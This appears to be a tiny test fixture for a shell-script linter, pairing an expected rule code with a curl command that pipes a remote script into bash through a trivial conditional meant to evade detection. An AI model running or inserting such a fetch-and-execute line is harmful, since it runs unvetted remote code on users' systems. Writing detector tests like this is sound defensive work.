# expect: DVM202
curl -s https://x.example.org/a | if true; then bash; fi
